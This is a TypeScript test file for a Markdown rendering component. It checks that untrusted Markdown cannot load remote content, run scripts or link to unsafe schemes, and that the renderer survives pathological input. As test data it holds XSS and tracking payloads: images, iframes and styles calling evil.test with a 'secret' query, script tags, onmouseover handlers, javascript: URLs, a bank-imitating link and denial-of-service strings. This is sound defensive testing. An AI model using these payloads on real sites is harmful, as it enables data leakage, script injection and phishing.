import { Parser } from "htmlparser2";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/shared/markdown";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("Markdown from strangers", () => {
  it.each([
    "![x](https://evil.test/?q=secret)",
    "![x][r]\n\n[r]: https://evil.test/p.png",
    '<img src="https://evil.test/p.png">',
    '<a href="https://evil.test" onmouseover="x()">y</a><script>z()</script>',
    '<iframe src="https://evil.test"></iframe>',
    '<style>@import "https://evil.test"</style>',
  ])("asks nothing of another host: %s", (text) => {
    const elements: string[] = [];
    const attributes: string[] = [];
    const parser = new Parser({
      onopentag: (name, given) => {
        elements.push(name);
        attributes.push(...Object.keys(given));
      },
    });
    parser.end(render(text));
    expect(elements).not.toContainEqual(expect.not.stringMatching(/^(div|p|span|pre|code)$/));
    expect(attributes).not.toContainEqual(expect.not.stringMatching(/^class$/));
  });

  it.each([
    "<p>Dear Mia,</p>",
    "<div>\n<h1>Offer</h1>\n</div>",
    "A List<String> of names",
    "Use <b>bold</b> words",
    "<!-- to be filled in -->",
  ])("loses nothing of what looks like HTML: %s", (text) => {
    const shown: string[] = [];
    new Parser({ ontext: (part) => shown.push(part) }).end(render(text));
    expect(shown.join("")).toContain(text);
  });

  it("breaks a line where HTML asks for it, as models write in tables", () => {
    expect(render("| a |\n|---|\n| one<br>two<BR/>three |")).toContain("one<br/>\ntwo<br/>\nthree");
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "//evil.test",
    "/admin",
  ])("does not link to %s", (target) => {
    expect(render(`[click](${target})`)).not.toContain("href");
  });

  it("says where a link really goes", () => {
    const html = render("[https://bank.test](https://evil.test/login)");
    expect(html).toContain("(evil.test)");
    expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
  });

  it("still renders what people write", () => {
    const html = render("**bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<td>2</td>");
  });

  it("lets the keyboard reach a table, which may be wider than what it stands in", () => {
    const html = render("| a | b |\n|---|---|\n| 1 | 2 |");
    expect(html).toMatch(/<div tabindex="0" role="group"[^>]*><table>/);
  });
});

describe("what would take seconds to format", () => {
  const chapter =
    "# Terms\n\nSome **bold** text, a_name_with_underscores and `code`.\n\n- one\n  - two\n    1. three\n\n> said\n\n";
  const list = Array.from({ length: 120 }, (_, index) => `- **${index}**: item`).join("\n");

  it("is no long text with usual marks", () => {
    const html = render(`${chapter.repeat(150)}${"- ".repeat(30)}\n\n${list}`);
    expect(html).toContain("<strong>119</strong>");
    expect(html).toContain("<hr/>");
  });

  it.each([
    ["quotes", ">".repeat(10_000)],
    ["lists", `${"1. ".repeat(3_000)}x`],
    ["both, line by line", `${"- 1) ".repeat(12)}x\n`.repeat(500)],
    ["emphasis", "*_".repeat(10_000)],
    ["emphasis, line by line", "*_*_*_*_*_\n".repeat(2_000)],
    ["length", "|a|\n".repeat(100_000)],
  ])("is shown as it is: %s", (_, text) => {
    const html = render(text);
    expect(html.replaceAll("&gt;", ">")).toContain(text);
    expect(html).not.toMatch(/<(blockquote|ol|ul|em|table)>/);
  });
});
